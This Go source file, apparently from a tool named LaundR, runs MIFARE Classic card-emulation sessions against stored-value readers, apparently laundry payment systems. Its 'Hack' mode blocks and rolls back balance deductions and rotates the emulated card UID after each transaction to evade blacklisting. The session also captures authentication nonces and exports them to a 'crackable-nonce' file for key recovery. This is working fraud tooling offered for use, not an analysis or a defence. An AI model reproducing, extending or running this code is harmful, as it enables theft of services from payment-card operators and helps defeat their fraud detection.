package engine

import (
	"encoding/binary"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/sworrl/LaundR/pkg/classic"
)

// ErrSessionActive is returned when a second radio consumer tries to
// start while a session holds the listener. Only one low-level radio
// session can exist at a time; this is a hard conflict, never a queue.
var ErrSessionActive = errors.New("emulation session already active")

// AuthHook is invoked by the listener for each authentication attempt
// it captures a nonce triple for. It runs on the listener's callback
// goroutine and must not block.
type AuthHook func(block int, keyType byte, nt, nr, ar uint32)

// Listener is the radio collaborator driving card emulation. Start
// adopts the live image and mutates it in place as the reader writes;
// Live returns that table after folding in any pending activity and is
// only called from the session's poll goroutine. SetUID installs a new
// card identifier and must be applied only between reader exchanges —
// mutating the identifier mid-authentication is a fatal protocol
// error in the radio stack, so implementations arbitrate the timing
// themselves.
type Listener interface {
	Start(live *classic.Image, hook AuthHook) error
	Live() *classic.Image
	SetUID(uid [4]byte) error
	Stop() error
}

// Counters are the session tallies. All fields are atomics so the
// monitor, the listener callback, and status queries can touch them
// without coordination.
type Counters struct {
	Reads         atomic.Uint32 // authentication attempts observed
	Writes        atomic.Uint32 // block writes observed
	BlockedWrites atomic.Uint32 // charges rolled back in Hack mode
	Transactions  atomic.Uint32 // UID rotations, one per blocked/accepted balance change in Hack
}

// Snapshot returns a plain copy of the counters.
func (c *Counters) Snapshot() CounterSnapshot {
	return CounterSnapshot{
		Reads:         c.Reads.Load(),
		Writes:        c.Writes.Load(),
		BlockedWrites: c.BlockedWrites.Load(),
		Transactions:  c.Transactions.Load(),
	}
}

// Reset zeroes all counters.
func (c *Counters) Reset() {
	c.Reads.Store(0)
	c.Writes.Store(0)
	c.BlockedWrites.Store(0)
	c.Transactions.Store(0)
}

// CounterSnapshot is a point-in-time copy of the session counters.
type CounterSnapshot struct {
	Reads         uint32
	Writes        uint32
	BlockedWrites uint32
	Transactions  uint32
}

// SessionRecord summarizes a finished session for the ledger and the
// history store.
type SessionRecord struct {
	When          time.Time
	UID           [4]byte // card UID at session start
	Provider      string
	Mode          Mode
	BalanceBefore uint16 // persisted balance
	BalanceAfter  uint16 // persisted balance adjusted by the last charge
	Charge        int16  // signed cents of the last balance change
	Counters      CounterSnapshot
}

// HistoryRecorder receives finished sessions. A bbolt-backed
// implementation lives in internal/history; tests substitute fakes.
type HistoryRecorder interface {
	RecordSession(rec SessionRecord) error
}

// Config carries the session collaborators and tuning. Zero values
// select defaults; LedgerPath, NoncePath, and History are optional
// sinks and disabled when empty.
type Config struct {
	Listener   Listener
	Mode       Mode
	Interval   time.Duration   // poll cadence, default 250ms
	EventCap   int             // event ring capacity, default 256
	Now        func() uint32   // rotation tick source, default wall-clock milliseconds
	Log        *slog.Logger    // default slog.Default()
	LedgerPath string          // CSV transaction ledger
	NoncePath  string          // crackable-nonce export file
	History    HistoryRecorder // durable session history
}

// Session owns one emulation lifecycle: it arms the monitor, starts
// the listener, polls the live table on a ticker, applies UID
// rotations between transactions, and runs the ordered teardown that
// flushes everything the time-critical paths deferred.
type Session struct {
	store      *classic.Store
	listener   Listener
	log        *slog.Logger
	interval   time.Duration
	now        func() uint32
	ledgerPath string
	noncePath  string
	history    HistoryRecorder

	mode       atomic.Uint32
	running    atomic.Bool
	resetInter atomic.Bool

	counters Counters
	pool     NoncePool
	inter    Interrogation
	events   *EventLog
	monitor  *Monitor

	provider string
	startUID [4]byte
	uid      atomic.Uint32 // current UID, big-endian; rotations move it

	mu   sync.Mutex
	stop chan struct{}
	wg   sync.WaitGroup
}

// NewSession builds a session over the store. The listener is
// required; everything else defaults.
func NewSession(store *classic.Store, cfg Config) (*Session, error) {
	if cfg.Listener == nil {
		return nil, errors.New("session: listener required")
	}
	if cfg.Interval <= 0 {
		cfg.Interval = 250 * time.Millisecond
	}
	if cfg.Now == nil {
		cfg.Now = func() uint32 { return uint32(time.Now().UnixMilli()) }
	}
	if cfg.Log == nil {
		cfg.Log = slog.Default()
	}
	s := &Session{
		store:      store,
		listener:   cfg.Listener,
		log:        cfg.Log,
		interval:   cfg.Interval,
		now:        cfg.Now,
		ledgerPath: cfg.LedgerPath,
		noncePath:  cfg.NoncePath,
		history:    cfg.History,
	}
	s.mode.Store(uint32(cfg.Mode))
	s.events = NewEventLog(cfg.EventCap)
	s.monitor = NewMonitor(store, &s.counters, s.events, &s.pool, &s.inter)
	return s, nil
}

// Mode returns the active transaction policy.
func (s *Session) Mode() Mode { return Mode(s.mode.Load()) }

// SetMode switches the transaction policy. Switching is allowed while
// a session runs and only affects future ticks; entering Interrogate
// resets the access-pattern accumulators.
func (s *Session) SetMode(m Mode) {
	old := Mode(s.mode.Swap(uint32(m)))
	if m != ModeInterrogate || old == ModeInterrogate {
		return
	}
	if s.running.Load() {
		// The accumulators belong to the poll goroutine; let it do
		// the reset before its next tick.
		s.resetInter.Store(true)
	} else {
		s.inter.Reset()
	}
}

// Running reports whether an emulation session is active.
func (s *Session) Running() bool { return s.running.Load() }

// Counters returns a snapshot of the session tallies.
func (s *Session) Counters() CounterSnapshot { return s.counters.Snapshot() }

// Nonces exposes the capture pool's query surface.
func (s *Session) Nonces() *NoncePool { return &s.pool }

// Interrogation exposes the access-pattern accumulators. Report and
// Reset on it are only safe with the session stopped.
func (s *Session) Interrogation() *Interrogation { return &s.inter }

// UID returns the currently emulated UID. Rotations update it.
func (s *Session) UID() [4]byte {
	var u [4]byte
	binary.BigEndian.PutUint32(u[:], s.uid.Load())
	return u
}

// Start resets the live layer from persisted, arms the monitor, hands
// the live image to the listener, and launches the poll loop.
func (s *Session) Start() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.running.Load() {
		return ErrSessionActive
	}

	s.store.ResetLiveFromPersisted()
	live := s.store.Live()
	s.provider = classic.DetectProvider(s.store.Persisted())
	s.startUID = live.UID()
	s.uid.Store(binary.BigEndian.Uint32(s.startUID[:]))

	s.counters.Reset()
	s.events.Reset()
	s.pool.Reset()
	s.pool.SetCUID(s.startUID)
	if s.Mode() == ModeInterrogate {
		s.inter.Reset()
	}
	s.resetInter.Store(false)
	s.monitor.Arm()

	if err := s.listener.Start(live, s.observeAuth); err != nil {
		return fmt.Errorf("start listener: %w", err)
	}

	s.stop = make(chan struct{})
	s.running.Store(true)
	s.wg.Add(1)
	go s.poll()

	attrs := []any{
		"uid", uidString(s.startUID),
		"mode", s.Mode().String(),
		"provider", s.provider,
	}
	if cents, ok := s.store.PersistedBalance(); ok {
		attrs = append(attrs, "balance", classic.FormatCents(cents))
	}
	s.log.Info("emulation started", attrs...)
	return nil
}

// observeAuth is the AuthHook handed to the listener. It touches only
// atomics and the nonce pool; the listener's callback goroutine never
// waits on the monitor or on storage.
func (s *Session) observeAuth(block int, keyType byte, nt, nr, ar uint32) {
	s.counters.Reads.Add(1)
	s.inter.RecordAuth(block, keyType)
	s.pool.Observe(uint8(classic.SectorOf(block)), keyType, nt, nr, ar)
}

func (s *Session) poll() {
	defer s.wg.Done()
	ticker := time.NewTicker(s.interval)
	defer ticker.Stop()
	for {
		select {
		case <-s.stop:
			return
		case <-ticker.C:
			if s.resetInter.CompareAndSwap(true, false) {
				s.inter.Reset()
			}
			live := s.listener.Live()
			if live == nil {
				continue
			}
			if s.monitor.Tick(live, s.Mode()) {
				s.rotate(live)
			}
		}
	}
}

// rotate installs a fresh UID after a Hack-mode balance change. It
// runs on the poll goroutine right after the tick that asked for it,
// which is the one moment guaranteed to sit between reader
// transactions. The rotated block 0 is mirrored into persisted so the
// next session does not resurrect a burned UID.
func (s *Session) rotate(live *classic.Image) {
	old := live.Blocks[classic.ManufacturerBlock]
	uid := RotateUID(live, s.now)
	s.store.CommitLiveToPersisted(classic.ManufacturerBlock)
	s.uid.Store(binary.BigEndian.Uint32(uid[:]))
	s.pool.SetCUID(uid)
	if err := s.listener.SetUID(uid); err != nil {
		s.log.Error("uid rotation rejected", "uid", uidString(uid), "err", err)
	}
	n := s.counters.Transactions.Add(1)
	s.events.Append(Event{
		Kind:  EventRotation,
		Tick:  s.monitor.Ticks(),
		Block: classic.ManufacturerBlock,
		Old:   old,
		New:   live.Blocks[classic.ManufacturerBlock],
		Delta: int32(n),
	})
}

// Stop runs the ordered teardown: quiesce the monitor, release the
// radio, reconcile the image per mode, then do all the deferred I/O —
// drain the event log, export nonces, append the ledger row, record
// history — and finally reset the capture pool. Storage failures
// degrade to warnings; a finished session never fails because a file
// was missing. Stopping an idle session is a no-op.
func (s *Session) Stop() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.running.Load() {
		return nil
	}

	close(s.stop)
	s.wg.Wait()
	if err := s.listener.Stop(); err != nil {
		s.log.Warn("listener stop", "err", err)
	}
	mode := s.Mode()
	s.monitor.Disarm(mode)
	s.running.Store(false)

	if d := s.events.Dropped(); d > 0 {
		s.log.Warn("event log overflow", "dropped", d)
	}
	for _, ev := range s.events.Drain() {
		switch ev.Kind {
		case EventCharge, EventCredit, EventRollback, EventRotation:
			s.log.Info("session event", "tick", ev.Tick, "event", ev.String())
		default:
			s.log.Debug("session event", "tick", ev.Tick, "event", ev.String())
		}
	}

	snap := s.counters.Snapshot()
	s.log.Info("emulation stopped",
		"reads", snap.Reads,
		"writes", snap.Writes,
		"blocked", snap.BlockedWrites,
		"transactions", snap.Transactions)

	s.exportNonces()

	rec := s.record(mode, snap)
	if s.ledgerPath != "" && snap.Transactions > 0 {
		if err := AppendLedger(s.ledgerPath, rec); err != nil {
			s.log.Warn("ledger append failed", "path", s.ledgerPath, "err", err)
		}
	}
	if s.history != nil {
		if err := s.history.RecordSession(rec); err != nil {
			s.log.Warn("history record failed", "err", err)
		}
	}

	s.pool.Reset()
	return nil
}

func (s *Session) record(mode Mode, snap CounterSnapshot) SessionRecord {
	before, _ := s.store.PersistedBalance()
	charge := s.monitor.LastCharge()
	if s.monitor.BalanceChanged() {
		before = s.monitor.LastBefore()
	}
	return SessionRecord{
		When:          time.Now(),
		UID:           s.startUID,
		Provider:      s.provider,
		Mode:          mode,
		BalanceBefore: before,
		BalanceAfter:  uint16(int32(before) + int32(charge)),
		Charge:        charge,
		Counters:      snap,
	}
}

func (s *Session) exportNonces() {
	if s.noncePath == "" || s.pool.Complete() == 0 {
		return
	}
	f, err := os.Create(s.noncePath)
	if err != nil {
		s.log.Warn("nonce export failed", "path", s.noncePath, "err", err)
		return
	}
	n, err := s.pool.Export(f)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		s.log.Warn("nonce export failed", "path", s.noncePath, "err", err)
		return
	}
	s.log.Info("nonces exported",
		"path", s.noncePath,
		"pairs", n,
		"writekey", s.pool.WriteKeySeen())
}

func uidString(uid [4]byte) string {
	return fmt.Sprintf("%02X%02X%02X%02X", uid[0], uid[1], uid[2], uid[3])
}
